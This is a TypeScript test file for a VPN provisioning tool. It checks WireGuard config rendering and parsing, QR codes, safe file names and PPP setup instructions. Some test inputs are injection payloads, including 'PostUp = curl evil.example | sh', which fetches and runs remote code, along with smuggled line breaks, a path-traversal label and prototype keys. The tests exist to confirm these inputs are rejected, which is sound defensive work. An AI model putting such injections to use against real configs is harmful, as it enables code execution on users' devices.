// What users receive: WireGuard client configs (wg-quick text, file name, QR code) and the PPP
// setup instructions. The QR code is decoded back with jsQR, as a phone camera would.

import assert from 'node:assert/strict';
import { test } from 'node:test';

import { PNG } from 'pngjs';

import { WardenError } from '../../src/domain/errors.js';
import {
  parseWireguardConf,
  renderQrPng,
  renderWireguardConf,
  validateWireguardClientConfig,
  wireguardConfFileName,
  type WireguardClientConfig,
} from '../../src/provisioning/clientConfig.js';
import { PPP_INSTRUCTIONS_MAX_CHARS, PPP_LIMITS, PPP_PROTOCOLS, pppInstructions } from '../../src/provisioning/pppInstructions.js';
import { isWireguardKey } from '../../src/router/wireguardKeys.js';
import { decodeQrPng } from '../support/qr.js';

// Keys from the wg(8) / wg-quick(8) man page examples.
const CLIENT_PRIVATE = 'oK56DE9Ue9zK76rAc8pBl6opph+1v36lm7cXXsQKrQM=';
const SERVER_PUBLIC = 'GtL7fZc/bLnqZldpVofMCD6hDjrK28SsdLxevJ+qtKU=';
const PSK = '/UwcSPg38hW/D9Y3tcS1FOV0K1wuURMbS0sesJEP5ak=';

const FULL: WireguardClientConfig = {
  privateKey: CLIENT_PRIVATE,
  address: '10.66.0.5/32',
  dns: ['10.66.0.1', '2001:db8::53', 'corp.example.net'],
  mtu: 1420,
  serverPublicKey: SERVER_PUBLIC,
  presharedKey: PSK,
  allowedIps: ['0.0.0.0/0', '::/0'],
  endpoint: 'vpn.example.net:51820',
  persistentKeepalive: 25,
};

const MINIMAL: WireguardClientConfig = {
  privateKey: CLIENT_PRIVATE,
  address: '10.66.0.6/32',
  serverPublicKey: SERVER_PUBLIC,
  allowedIps: ['10.66.0.0/24'],
  endpoint: '[2001:db8::1]:13231',
};

/** Runs fn and checks it throws an invalid-input WardenError about `field`; returns the error. */
function throwsFor(field: string, fn: () => unknown): WardenError {
  try {
    fn();
  } catch (err) {
    assert.ok(err instanceof WardenError, `expected a WardenError, got ${String(err)}`);
    assert.equal(err.code, 'invalid-input');
    assert.equal(err.details?.field, field, err.message);
    assert.ok(err.message.includes(field), `message should name ${field}: ${err.message}`);
    return err;
  }
  assert.fail(`expected an error about ${field}`);
}

test('the test keys are WireGuard keys', () => {
  for (const key of [CLIENT_PRIVATE, SERVER_PUBLIC, PSK]) assert.ok(isWireguardKey(key), key);
});

test('renders exactly the wg-quick format, LF endings and a trailing newline', () => {
  assert.equal(
    renderWireguardConf(FULL),
    [
      '[Interface]',
      `PrivateKey = ${CLIENT_PRIVATE}`,
      'Address = 10.66.0.5/32',
      'DNS = 10.66.0.1, 2001:db8::53, corp.example.net',
      'MTU = 1420',
      '',
      '[Peer]',
      `PublicKey = ${SERVER_PUBLIC}`,
      `PresharedKey = ${PSK}`,
      'AllowedIPs = 0.0.0.0/0, ::/0',
      'Endpoint = vpn.example.net:51820',
      'PersistentKeepalive = 25',
      '',
    ].join('\n'),
  );
  assert.equal(
    renderWireguardConf(MINIMAL),
    `[Interface]\nPrivateKey = ${CLIENT_PRIVATE}\nAddress = 10.66.0.6/32\n\n[Peer]\nPublicKey = ${SERVER_PUBLIC}\nAllowedIPs = 10.66.0.0/24\nEndpoint = [2001:db8::1]:13231\n`,
  );
  assert.ok(!renderWireguardConf(FULL).includes('\r'));
});

test('render -> parse round trip gives back what was meant', () => {
  const cases: WireguardClientConfig[] = [
    FULL,
    MINIMAL,
    { ...MINIMAL, endpoint: '203.0.113.7:1', persistentKeepalive: 0, dns: ['1.1.1.1'] },
    { ...MINIMAL, address: 'fd00:66::5/128', allowedIps: ['fd00:66::/64', '192.168.88.0/24', '10.0.0.1/32'], mtu: 1280 },
    { ...MINIMAL, address: '10.66.0.7', endpoint: 'gw:65535', persistentKeepalive: 65535 },
  ];
  for (const config of cases) {
    const text = renderWireguardConf(config);
    assert.deepEqual(parseWireguardConf(text), config, text);
    assert.equal(renderWireguardConf(parseWireguardConf(text)), text);
  }
});

test('an empty DNS list writes no DNS line', () => {
  const text = renderWireguardConf({ ...MINIMAL, dns: [] });
  assert.ok(!text.includes('DNS'));
  assert.equal(parseWireguardConf(text).dns, undefined);
});

test('the parser reads hand-edited files: comments, CRLF, key case, repeated list keys', () => {
  const text = [
    '# exported by hand',
    '[interface]',
    `privatekey=${CLIENT_PRIVATE}`,
    '  Address = 10.66.0.5/32   # mine',
    'DNS = 10.66.0.1',
    'DNS = 1.1.1.1',
    '',
    '[Peer]',
    `PublicKey = ${SERVER_PUBLIC}`,
    'AllowedIPs = 10.66.0.0/24',
    'AllowedIPs = 192.168.88.0/24',
    'Endpoint = vpn.example.net:51820',
    'PersistentKeepalive = off',
  ].join('\r\n');
  assert.deepEqual(parseWireguardConf(text), {
    privateKey: CLIENT_PRIVATE,
    address: '10.66.0.5/32',
    dns: ['10.66.0.1', '1.1.1.1'],
    serverPublicKey: SERVER_PUBLIC,
    allowedIps: ['10.66.0.0/24', '192.168.88.0/24'],
    endpoint: 'vpn.example.net:51820',
    persistentKeepalive: 0,
  });
});

test('the parser rejects what we never send, naming the field and line', () => {
  const good = renderWireguardConf(FULL);
  const withLine = (after: string, line: string) => good.replace(after + '\n', `${after}\n${line}\n`);
  throwsFor('text', () => parseWireguardConf(withLine('MTU = 1420', 'PostUp = curl evil.example | sh')));
  throwsFor('text', () => parseWireguardConf(good + `\n[Peer]\nPublicKey = ${PSK}\nAllowedIPs = 10.9.0.0/24\n`));
  throwsFor('text', () => parseWireguardConf(good.replace('[Interface]', '[Tunnel]')));
  throwsFor('text', () => parseWireguardConf(`Address = 10.0.0.1/32\n${good}`));
  throwsFor('text', () => parseWireguardConf(good.replace('[Peer]', '')));
  throwsFor('text', () => parseWireguardConf(withLine('MTU = 1420', 'just words')));
  throwsFor('text', () => parseWireguardConf(withLine('MTU = 1420', 'constructor = x')));
  throwsFor('text', () => parseWireguardConf(withLine('MTU = 1420', '__proto__ = x')));
  const twice = throwsFor('privateKey', () => parseWireguardConf(withLine('MTU = 1420', `PrivateKey = ${PSK}`)));
  assert.equal(twice.details?.line, 6);
  throwsFor('endpoint', () => parseWireguardConf(good.replace('Endpoint = vpn.example.net:51820\n', '')));
  throwsFor('allowedIps', () => parseWireguardConf(good.replace('AllowedIPs = 0.0.0.0/0, ::/0\n', '')));
  throwsFor('address', () => parseWireguardConf(good.replace('10.66.0.5/32', '10.66.0.5/32, fd00::5/128')));
  throwsFor('allowedIps', () => parseWireguardConf(good.replace('0.0.0.0/0, ::/0', '0.0.0.0/0,,::/0')));
  throwsFor('mtu', () => parseWireguardConf(good.replace('MTU = 1420', 'MTU = 1420.5')));
  const badKey = throwsFor('serverPublicKey', () => parseWireguardConf(good.replace(SERVER_PUBLIC, SERVER_PUBLIC.slice(1))));
  assert.equal(badKey.details?.line, 8);
  assert.match(badKey.message, /line 8/);
});

test('validation failures name the field', () => {
  const bad: Array<[keyof WireguardClientConfig, Partial<Record<keyof WireguardClientConfig, unknown>>]> = [
    // Keys: wrong length, not base64, 33 bytes, non-canonical padding bits, hex instead of base64.
    ['privateKey', { privateKey: CLIENT_PRIVATE.slice(0, 43) }],
    ['privateKey', { privateKey: CLIENT_PRIVATE.replace('+', '-') }],
    ['privateKey', { privateKey: Buffer.alloc(33, 1).toString('base64') }],
    ['privateKey', { privateKey: CLIENT_PRIVATE.slice(0, 42) + 'R=' }],
    ['privateKey', { privateKey: 'a0'.repeat(32) }],
    ['serverPublicKey', { serverPublicKey: '' }],
    ['presharedKey', { presharedKey: 'not-a-key' }],
    // CIDRs and addresses.
    ['address', { address: '10.66.0.5/33' }],
    ['address', { address: '10.66.0.256/32' }],
    ['address', { address: '10.66.0.5/032' }],
    ['address', { address: 'fe80::1%eth0/128' }],
    ['address', { address: 'vpn.example.net' }],
    ['allowedIps', { allowedIps: [] }],
    ['allowedIps', { allowedIps: ['10.0.0.0'] }],
    ['allowedIps', { allowedIps: ['::/129'] }],
    ['allowedIps', { allowedIps: ['0.0.0.0/0', 'everything'] }],
    ['dns', { dns: ['10.0.0.1/32'] }],
    ['dns', { dns: ['bad_domain!'] }],
    // Endpoints.
    ['endpoint', { endpoint: 'vpn.example.net' }],
    ['endpoint', { endpoint: 'vpn.example.net:0' }],
    ['endpoint', { endpoint: 'vpn.example.net:65536' }],
    ['endpoint', { endpoint: 'vpn.example.net:051820' }],
    ['endpoint', { endpoint: ':51820' }],
    ['endpoint', { endpoint: '2001:db8::1:51820' }],
    ['endpoint', { endpoint: '[10.0.0.1]:51820' }],
    ['endpoint', { endpoint: '[2001:db8::1]' }],
    ['endpoint', { endpoint: 'vpn..example.net:51820' }],
    ['endpoint', { endpoint: '-vpn.example.net:51820' }],
    ['endpoint', { endpoint: '10.0.0.256:51820' }],
    ['endpoint', { endpoint: 'http://vpn.example.net:51820' }],
    // Numbers.
    ['persistentKeepalive', { persistentKeepalive: -1 }],
    ['persistentKeepalive', { persistentKeepalive: 65536 }],
    ['persistentKeepalive', { persistentKeepalive: 2.5 }],
    ['persistentKeepalive', { persistentKeepalive: '25' }],
    ['mtu', { mtu: 575 }],
    ['mtu', { mtu: 65536 }],
    ['mtu', { mtu: Number.NaN }],
  ];
  for (const [field, patch] of bad) {
    const config = { ...FULL, ...patch } as WireguardClientConfig;
    throwsFor(field, () => renderWireguardConf(config));
    throwsFor(field, () => validateWireguardClientConfig(config));
  }
});

test('injected line breaks and keys never reach the file', () => {
  const injections = ['\nPostUp = curl evil.example | sh', '\r\nPostUp = x', '\u2028PostUp = x', ' # comment', '\u0000'];
  for (const inject of injections) {
    throwsFor('privateKey', () => renderWireguardConf({ ...FULL, privateKey: CLIENT_PRIVATE + inject }));
    throwsFor('serverPublicKey', () => renderWireguardConf({ ...FULL, serverPublicKey: SERVER_PUBLIC + inject }));
    throwsFor('presharedKey', () => renderWireguardConf({ ...FULL, presharedKey: PSK + inject }));
    throwsFor('address', () => renderWireguardConf({ ...FULL, address: '10.66.0.5/32' + inject }));
    throwsFor('dns', () => renderWireguardConf({ ...FULL, dns: ['10.66.0.1' + inject] }));
    throwsFor('allowedIps', () => renderWireguardConf({ ...FULL, allowedIps: ['0.0.0.0/0' + inject] }));
    throwsFor('endpoint', () => renderWireguardConf({ ...FULL, endpoint: 'vpn.example.net:51820' + inject }));
    throwsFor('endpoint', () => renderWireguardConf({ ...FULL, endpoint: 'vpn.example.net' + inject + ':51820' }));
  }
  // `=` cannot start a second key on the same line either.
  throwsFor('endpoint', () => renderWireguardConf({ ...FULL, endpoint: 'Table=off:51820' }));
  throwsFor('dns', () => renderWireguardConf({ ...FULL, dns: ['1.1.1.1, PostUp=x'] }));
});

test('the QR code PNG decodes to exactly the config text', async () => {
  for (const config of [FULL, MINIMAL]) {
    const text = renderWireguardConf(config);
    const png = await renderQrPng(text);
    assert.deepEqual([...png.subarray(0, 8)], [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
    const image = PNG.sync.read(png);
    assert.equal(image.width, image.height);
    assert.ok(image.width >= 400 && image.width <= 620, `width ${image.width}`);
    assert.equal(decodeQrPng(png), text);
  }
});

test('a config with many routes still fits and decodes', async () => {
  const allowedIps = Array.from({ length: 60 }, (_, i) => `10.${i}.0.0/16`).concat(['fd00::/8', '2001:db8:1234:5678::/64']);
  const text = renderWireguardConf({ ...FULL, allowedIps });
  assert.ok(text.length > 1000);
  assert.equal(decodeQrPng(await renderQrPng(text)), text);
});

test('text too long for level M falls back to level L and still decodes', async () => {
  // 2331 bytes is the most a version-40 symbol holds at level M; level L holds 2953.
  const text = 'AllowedIPs = 10.0.0.0/8, 172.16.0.0/12\n'.repeat(70);
  assert.ok(Buffer.byteLength(text) > 2331 && Buffer.byteLength(text) < 2953);
  assert.equal(decodeQrPng(await renderQrPng(text)), text);
});

test('text that no QR code can hold is refused clearly', async () => {
  await assert.rejects(renderQrPng('x'.repeat(3000)), (err: unknown) => {
    assert.ok(err instanceof WardenError);
    assert.equal(err.details?.field, 'text');
    assert.match(err.message, /does not fit in a QR code/);
    return true;
  });
  await assert.rejects(renderQrPng(''), WardenError);
});

test('file names are safe tunnel names: [a-zA-Z0-9_=+.-]{1,15} before .conf', () => {
  const expected: Array<[string, string]> = [
    ['laptop', 'warden-laptop.conf'],
    ['Laptop', 'warden-laptop.conf'],
    ['My Work Laptop', 'warden-my-work.conf'],
    ['Téléphone', 'warden-telephon.conf'],
    ['../../etc/passwd', 'warden-etc-pass.conf'],
    ['a\nb\r\nc', 'warden-a-b-c.conf'],
    ['', 'warden.conf'],
    ['   ', 'warden.conf'],
    ['x.......y', 'warden-x.conf'],
  ];
  for (const [label, name] of expected) assert.equal(wireguardConfFileName(label), name, JSON.stringify(label));

  const labels = ['Телефон', 'Ноутбук', '📱', 'iPhone 15 Pro Max', 'CON', 'a'.repeat(500), '-.-', 'x/y\\z:*?"<>|', 'wg0', 'pixel_8+', 'a=b'];
  const tunnelNames = new Set<string>();
  for (const label of labels) {
    const file = wireguardConfFileName(label);
    const match = /^(.+)\.conf$/.exec(file);
    assert.ok(match, file);
    const tunnel = match[1]!;
    assert.match(tunnel, /^[a-zA-Z0-9_=+.-]{1,15}$/, `${JSON.stringify(label)} -> ${file}`);
    assert.ok(!/[-.]$/.test(tunnel), file);
    tunnelNames.add(tunnel);
  }
  // Labels with nothing usable still get distinct, stable names.
  assert.notEqual(wireguardConfFileName('Телефон'), wireguardConfFileName('Ноутбук'));
  assert.equal(wireguardConfFileName('Телефон'), wireguardConfFileName('Телефон'));
  assert.equal(tunnelNames.size, labels.length);
});

const PPP_BASE = { server: 'vpn.example.net', username: 'alice.w', password: 'Tr0ub4dor&3', ipsecSecret: 'l2tp-psk-42' };

test('PPP instructions carry the server, username and password for every protocol', () => {
  for (const protocol of PPP_PROTOCOLS) {
    const text = pppInstructions({ protocol, ...PPP_BASE });
    for (const value of [PPP_BASE.server, PPP_BASE.username, PPP_BASE.password]) {
      assert.ok(text.includes(value), `${protocol} lacks ${value}`);
    }
    assert.ok(text.length <= PPP_INSTRUCTIONS_MAX_CHARS, `${protocol}: ${text.length}`);
    // Plain text: no Markdown or HTML the bots would have to escape or could misrender.
    assert.doesNotMatch(text, /[*`<]|\]\(/, protocol);
    assert.ok(text.endsWith('\n') && !text.includes('\r'));
  }
});

test('PPP instructions per protocol say what that protocol needs', () => {
  const l2tp = pppInstructions({ protocol: 'l2tp', ...PPP_BASE });
  assert.match(l2tp, /IPsec pre-shared key: l2tp-psk-42/);
  assert.match(l2tp, /Windows/);
  assert.match(l2tp, /macOS/);
  assert.match(l2tp, /iPhone/);
  assert.match(l2tp, /Android/);
  const l2tpNoSecret = pppInstructions({ protocol: 'l2tp', server: '203.0.113.9', username: 'bob', password: 'pw' });
  assert.match(l2tpNoSecret, /ask the admin/i);
  assert.match(pppInstructions({ protocol: 'sstp', ...PPP_BASE }), /Secure Socket Tunneling Protocol \(SSTP\)[\s\S]*certificate/);
  const ovpn = pppInstructions({ protocol: 'ovpn', ...PPP_BASE });
  assert.match(ovpn, /\.ovpn/);
  assert.match(ovpn, /CA certificate/);
  assert.match(ovpn, /admin/);
  assert.match(pppInstructions({ protocol: 'pptp', ...PPP_BASE }), /INSECURE/);
  assert.match(pppInstructions({ protocol: 'pppoe', ...PPP_BASE }), /local network/);
  const any = pppInstructions({ protocol: 'any', ...PPP_BASE });
  assert.match(any, /SSTP/);
  assert.match(any, /L2TP/);
  assert.match(any, /OpenVPN/);
  assert.match(any, /l2tp-psk-42/);
  assert.match(any, /Avoid PPTP/);
});

test('PPP instructions fit one message even with the longest accepted values', () => {
  const longestHost = `${'a'.repeat(63)}.${'b'.repeat(63)}.${'c'.repeat(63)}.${'d'.repeat(61)}`;
  assert.equal(longestHost.length, PPP_LIMITS.server);
  const longest = {
    server: longestHost,
    username: 'u'.repeat(PPP_LIMITS.username),
    password: 'p'.repeat(PPP_LIMITS.password),
    ipsecSecret: 's'.repeat(PPP_LIMITS.ipsecSecret),
  };
  for (const protocol of PPP_PROTOCOLS) {
    for (const input of [longest, { ...longest, ipsecSecret: undefined }]) {
      const text = pppInstructions({ protocol, ...input });
      assert.ok(text.length <= PPP_INSTRUCTIONS_MAX_CHARS, `${protocol}: ${text.length} characters`);
    }
  }
});

test('PPP instructions refuse unusable input, naming the field', () => {
  throwsFor('password', () => pppInstructions({ protocol: 'l2tp', ...PPP_BASE, password: 'pw\nServer: evil.example' }));
  throwsFor('username', () => pppInstructions({ protocol: 'sstp', ...PPP_BASE, username: 'u'.repeat(PPP_LIMITS.username + 1) }));
  throwsFor('username', () => pppInstructions({ protocol: 'sstp', ...PPP_BASE, username: '' }));
  throwsFor('password', () => pppInstructions({ protocol: 'sstp', ...PPP_BASE, password: ' padded ' }));
  throwsFor('server', () => pppInstructions({ protocol: 'pptp', ...PPP_BASE, server: 'not a host!' }));
  throwsFor('server', () => pppInstructions({ protocol: 'pptp', ...PPP_BASE, server: 'vpn.example.net:443' }));
  throwsFor('ipsecSecret', () => pppInstructions({ protocol: 'l2tp', ...PPP_BASE, ipsecSecret: 'x\u0007' }));
  throwsFor('protocol', () => pppInstructions({ ...PPP_BASE, protocol: 'ikev2' as never }));
  // IPv6 and IPv4 servers are fine.
  assert.match(pppInstructions({ protocol: 'sstp', ...PPP_BASE, server: '2001:db8::10' }), /Server: 2001:db8::10/);
});
